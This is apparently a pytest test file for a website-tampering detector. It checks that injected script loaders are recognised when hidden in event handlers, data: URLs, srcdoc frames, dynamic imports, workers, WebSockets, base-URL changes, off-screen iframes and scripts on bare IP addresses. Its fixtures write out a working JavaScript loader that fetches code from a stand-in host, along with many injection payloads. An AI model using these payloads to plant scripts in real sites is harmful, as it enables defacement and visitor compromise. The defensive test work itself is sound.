"""Loaders outside the obvious tag: event handlers, data: scripts, srcdoc frames, module imports,
any quoted script address, and a base URL moved to another domain."""

from __future__ import annotations

import base64

import pytest
from selectolax.lexbor import LexborHTMLParser

from tamperwatch.detect.foreign_injection import ForeignInjectionDetector
from tamperwatch.detect.inline_loads import HIDDEN, PLAIN, QUOTED, inline_loads

from .synthetic import news_page, page
from .test_foreign_injection import rotating_part

EVIL = "https://files.unknown-host.example/l.js"
LOADER = f"var s=document.createElement('script');s.src='{EVIL}';document.head.appendChild(s)"
DATA_SCRIPT = "data:text/javascript;base64," + base64.b64encode(LOADER.encode()).decode()


def loads(markup: str) -> list[tuple[str, str]]:
    return inline_loads(LexborHTMLParser(f"<html><body>{markup}</body></html>"))


@pytest.mark.parametrize(
    "markup",
    [
        f'<img src="/x.gif" onerror="{LOADER}">',
        f'<svg onload="{LOADER}"></svg>',
        f'<body onpageshow="{LOADER}">',
        f'<script src="{DATA_SCRIPT}"></script>',
        f"<iframe srcdoc=\"&lt;script src='{EVIL}'&gt;&lt;/script&gt;\"></iframe>",
        # any handler of an event that fires by itself, whatever its name or case
        f'<div style="animation:f 1ms" onanimationend="{LOADER}">x</div>',
        f'<div style="transition:all 1ms" ONTRANSITIONEND="{LOADER}">x</div>',
        f'<video autoplay muted src="/v.mp4" oncanplay="{LOADER}"></video>',
        f'<details open ontoggle="{LOADER}"><summary>s</summary></details>',
        f'<svg><animate attributeName="x" dur="1s" onbegin="{LOADER}"/></svg>',
        f'<input autofocus onfocusin="{LOADER}">',
    ],
)
def test_code_outside_script_blocks_that_loads_an_address_is_hidden_loading(markup: str) -> None:
    assert (EVIL, HIDDEN) in loads(markup)


@pytest.mark.parametrize(
    "markup",
    [
        f'<a href="#" onclick="{LOADER}">share</a>',
        f'<form onsubmit="{LOADER}"><input onkeyup="{LOADER}"></form>',
    ],
)
def test_handlers_of_events_a_visitor_fires_on_purpose_are_no_load(markup: str) -> None:
    assert loads(markup) == []


def test_handler_names_in_text_or_script_select_nothing_that_is_not_there() -> None:
    markup = "<p>click once = twice</p><script>window.onload = init;</script>"
    assert loads(markup) == []


@pytest.mark.parametrize(
    "code",
    [
        f"import('{EVIL}').then(m => m.run())",
        f"$.getScript('{EVIL}')",
        f"var w = new Worker('{EVIL}')",
        f"myLoader(['{EVIL}'], function(){{}})",
        "var c = new WebSocket('wss://pool.unknown-host.example:8443/ws')",
    ],
)
def test_any_quoted_script_or_websocket_address_is_a_load_whatever_receives_it(code: str) -> None:
    found = loads(f"<script>{code}</script>")
    # a browser call that runs code (an import, a worker) loads what it quotes; any other
    # function receiving the address is a quoted load
    runs = code.startswith("import(") or "Worker" in code
    assert found and all(how == (PLAIN if runs else QUOTED) for _, how in found)
    assert "unknown-host.example" in found[0][0]


def test_quoted_addresses_of_pages_and_images_are_not_loads() -> None:
    code = "var links = ['https://other.example/article/1.html', 'https://img.example/p.png'];"
    assert loads(f"<script>{code}</script>") == []


def test_a_style_sheet_swapped_in_by_its_onload_handler_loads_nothing() -> None:
    swap = "this.onload=null;this.rel='stylesheet'"
    assert loads(f'<link rel="preload" href="/site.css" as="style" onload="{swap}">') == []


def test_an_image_onerror_loader_is_a_defacement_even_where_vendors_rotate() -> None:
    det = ForeignInjectionDetector()
    injected = page(news_page(9, body_extra=f'<img src="/nope.gif" style="display:none" onerror="{LOADER}">'))
    [finding] = det.detect(rotating_part(det), injected)
    assert finding.score >= 0.5 and "event handler" in finding.reason


def test_a_base_url_moved_to_another_domain_is_a_defacement() -> None:
    det = ForeignInjectionDetector()
    injected = page(news_page(9, head_extra='<base href="https://mirror.unknown-host.example/">'))
    [finding] = det.detect(rotating_part(det), injected)
    assert finding.score >= 0.8 and "base URL" in finding.reason


def test_a_frame_hidden_off_screen_counts_as_hidden() -> None:
    from tamperwatch.detect.resources import foreign_resources

    frame = '<iframe src="https://frames.unknown-host.example/f.html" style="position:absolute;left:-5000px">'
    injected = page(news_page(9, body_extra=frame + "</iframe>"))
    [res] = [r for r in foreign_resources(injected) if r.kind == "iframe"]
    assert res.hidden


@pytest.mark.parametrize(
    "src",
    [
        "http://45.61.136.10/js/app.js",
        "https://[2001:db8::7]/l.js",
        "https://files.unknown-host.example:8443/l.js",
    ],
)
def test_a_script_served_from_a_bare_address_or_port_is_a_defacement_even_where_vendors_rotate(
    src: str,
) -> None:
    det = ForeignInjectionDetector()
    tag = f'<script async crossorigin="anonymous" data-x="1" src="{src}"></script>'
    [finding] = det.detect(rotating_part(det), page(news_page(9, head_extra=tag)))
    assert finding.score >= 0.5 and "bare address or port" in finding.reason


def test_a_vendor_on_a_named_host_and_standard_port_is_not_bare() -> None:
    det = ForeignInjectionDetector()
    tag = (
        '<script async crossorigin="anonymous" data-x="1" src="https://cdn.vendor.example:443/v.js"></script>'
    )
    findings = det.detect(rotating_part(det), page(news_page(9, head_extra=tag)))
    assert all(f.score < 0.5 and "bare" not in f.reason for f in findings)


def test_decoy_handler_names_cannot_push_the_usual_ones_out() -> None:
    """Names that look like handlers, written anywhere in the page (attribute values, text),
    are many: the handlers that fire by themselves on most pages are read whatever else is there."""
    decoys = "".join(f'<i data-x=" onaa{chr(97 + i // 26)}{chr(97 + i % 26)}=1">d</i>' for i in range(60))
    assert (EVIL, HIDDEN) in loads(decoys + f'<img src="/x.gif" onerror="{LOADER}">')
